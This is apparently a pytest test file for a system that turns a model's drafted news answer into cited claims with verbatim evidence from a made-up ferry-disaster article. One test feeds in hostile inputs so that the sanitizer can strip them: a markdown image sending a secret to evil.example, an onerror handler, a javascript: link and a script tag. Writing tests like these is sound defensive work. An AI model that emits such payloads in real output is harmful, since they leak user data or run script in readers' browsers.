"""What a model wrote becomes plain claims with exact evidence, and nothing hostile in it gets through."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from index.answer.model_claims import ModelDraft, model_draft
from index.answer.plain import statements
from index.chunk import chunk_article
from index.cite import cite
from index.question import Question, analyse
from index.records import NOT_IN_ARTICLES, Article, Passage
from index.support import Entailment, Meaning
from index.support.reading import read
from index.windows import Window

TEXT = (
    "Divers recovered four more bodies from the Morning Tern on Wednesday, bringing the number of dead to 11, "
    "police in Harsund said. A crane barge is expected to arrive on Friday.\n\n"
    "The chief executive of the Brannoy Line, Casper Ilding, said the fire appeared to have started in a truck. "
    "He denied that the ship had been overloaded. The crew does not have a union."
)
ARTICLE = Article(id="a", origin="a", text=TEXT, title="Ferry toll climbs to 11", published="2024-02-14")
ARTICLES = {"a": ARTICLE}


class Corpus:
    def chunk_count(self) -> int:
        return 100

    def document_frequency(self, words):  # type: ignore[no-untyped-def]
        return dict.fromkeys(words, 3)

    def stems(self) -> frozenset[str]:
        return frozenset()

    def examples(self, beginning: str, most: int) -> list[str]:
        return []


def passages() -> list[Passage]:
    """One passage a paragraph."""
    (chunk,) = chunk_article(ARTICLE, lambda texts: [1] * len(texts))
    cut = TEXT.index("\n\n")
    runs = [[s for s in chunk.sentences if s[1] <= cut], [s for s in chunk.sentences if s[0] > cut]]
    spans = [(run[0][0], run[-1][1], tuple(run)) for run in runs]
    return [
        Passage(n, "a", ARTICLE.title, None, ARTICLE.published, None, TEXT[start:end], start, end, sentences)
        for n, (start, end, sentences) in enumerate(spans)
    ]


def question(text: str = "What happened?") -> Question:
    return analyse(text, Corpus())


def drafted(text: str, asked: str = "What happened?") -> ModelDraft:
    return model_draft(text, question(asked), passages(), ARTICLES)


def supports(text: str, asked: str = "What happened?") -> list[str]:
    return [claim.support for claim in cite(drafted(text, asked).claims, ARTICLES).claims]


@pytest.mark.parametrize(
    ("written", "passages"),
    [
        ("It rained. [1]", (1,)),
        ("It rained [1].", (1,)),
        ("It rained [1][2].", (1, 2)),
        ("It rained [1, 3].", (1, 3)),
        ("It rained [1-3].", (1, 2, 3)),
        ("It rained【2】.", (2,)),
        ("It rained (1).", (1,)),
        ("It rained [Passage 4].", (4,)),
        ("It rained.", ()),
        ("It rained [99999999].", ()),
    ],
)
def test_markers_in_many_shapes(written: str, passages: tuple[int, ...]) -> None:
    (statement,) = statements(written)
    assert statement.passages == passages


def test_a_marker_belongs_to_the_sentence_it_follows() -> None:
    found = statements("It rained. [1] The river rose [2]. Nobody was hurt. [3]")
    assert [(s.text, s.passages) for s in found] == [
        ("It rained.", (1,)),
        ("The river rose.", (2,)),
        ("Nobody was hurt.", (3,)),
    ]


@pytest.mark.parametrize(
    "hostile",
    [
        "It **rained** ![x](http://evil.example/?q=secret) a lot [1].",
        'It <img src=x onerror="alert(1)">rained <b>a lot</b> [1].',
        "It [rained](javascript:alert(1)) a lot [1].\n\n[1]: http://evil.example",
        "It rained a lot https://evil.example/?q=1 [1].",
        "<script>alert(1)</script>\n\nIt rained a lot [1].",
        "It &lt;img src=x&gt;rained a lot [1].",
        "- It rained a lot [1].",
        "## It rained a lot [1].",
    ],
)
def test_no_markup_is_left(hostile: str) -> None:
    (statement,) = [s for s in statements(hostile) if "rained" in s.text]
    assert statement.text == "It rained a lot."
    assert statement.passages == (1,)


def test_a_claim_gets_the_sentence_that_carries_it_with_what_it_leans_on() -> None:
    (claim,) = drafted("Casper Ilding denied that the ship had been overloaded. [2]").claims
    (evidence,) = claim.evidence
    assert evidence.quote.startswith("The chief executive")
    assert evidence.quote.endswith("overloaded.")
    assert TEXT[evidence.start : evidence.end] == evidence.quote


def test_a_right_quote_under_a_wrong_marker_is_moved() -> None:
    (claim,) = drafted("A crane barge is expected to arrive on Friday. [2]").claims
    assert claim.evidence[0].quote == "A crane barge is expected to arrive on Friday."


@pytest.mark.parametrize(
    ("claim", "support"),
    [
        ("The number of dead rose to 11, police said. [1]", "verified"),
        ("The number of dead rose to 12, police said. [1]", "unverified"),
        ("A crane barge is expected on Friday. [99]", "unverified"),
        ("A crane barge is expected on Friday.", "verified"),
        ("The ship had been overloaded. [2]", "unverified"),
        ("The crew has a union. [2]", "unverified"),
        ("Paris is the capital of France. [1]", "unverified"),
    ],
)
def test_what_stands_and_what_does_not(claim: str, support: str) -> None:
    assert supports(claim) == [support]


def test_a_verdict_is_checked_like_a_claim() -> None:
    asked = "Does the crew have a union?"
    assert drafted("No. The crew does not have a union. [2]", asked).verdict == "no"
    assert drafted("Yes. The crew does not have a union. [2]", asked).verdict is None
    assert drafted("Yes. The moon is made of cheese. [1]", asked).verdict is None
    overloaded = "Was the ship overloaded?"
    assert (
        drafted("Yes. Casper Ilding denied that the ship had been overloaded. [2]", overloaded).verdict
        is None
    )


@pytest.mark.parametrize(
    "text",
    [NOT_IN_ARTICLES, "The passages do not mention the president of France.", "I cannot answer that.", ""],
)
def test_declining_is_understood(text: str) -> None:
    assert drafted(text).declined
    assert not drafted(text).claims


def test_what_answers_is_not_declining() -> None:
    assert not drafted("A crane barge is expected to arrive on Friday. [1]").declined
    assert not drafted("Yes.").declined
    assert not drafted("Yes.").claims
    (claim,) = drafted("No, the crew does not have a union. [2]", "Does the crew have a union?").claims
    assert claim.text == "The crew does not have a union."


def test_a_passage_that_the_article_no_longer_has_is_no_evidence() -> None:
    changed = {"a": replace(ARTICLE, text=f"It rained. {TEXT}")}
    (claim,) = model_draft("A crane barge is expected to arrive. [1]", question(), passages(), changed).claims
    assert claim.evidence == ()


@settings(max_examples=60)
@given(
    st.text(max_size=300)
    | st.lists(st.sampled_from([*TEXT.split(), "[1]", "[2]", "<b>", "**", "not", "12"])).map(" ".join)
)
def test_whatever_is_written_evidence_is_verbatim_and_numbers_are_quoted(text: str) -> None:
    draft = drafted(text)
    cited = cite(draft.claims, ARTICLES)
    for claim in draft.claims:
        assert all(TEXT[e.start : e.end] == e.quote for e in claim.evidence)
    for claim in cited.claims:
        if claim.support == "verified":
            quotes = [cited.citations[n - 1].quote for n in claim.citations]
            values = {f.value for quote in quotes for f in read(quote, ARTICLE.published).figures}
            assert {f.value for f in read(claim.text, ARTICLE.published).figures} <= values


def test_a_sentence_that_shares_no_word_with_a_claim_is_found_by_the_reader() -> None:
    def reads(asked: str, windows: Sequence[Window]) -> list[list[float]]:
        return [[9.0 if "union" in s else -9.0 for s in window.sentences] for window in windows]

    said = "Nobody speaks for the sailors collectively. [2]"
    judge = Meaning(None, Entailment(reads))
    (claim,) = model_draft(said, question(), passages(), ARTICLES, judge).claims
    assert [evidence.quote for evidence in claim.evidence] == ["The crew does not have a union."]
    assert not model_draft(said, question(), passages(), ARTICLES).claims[0].evidence
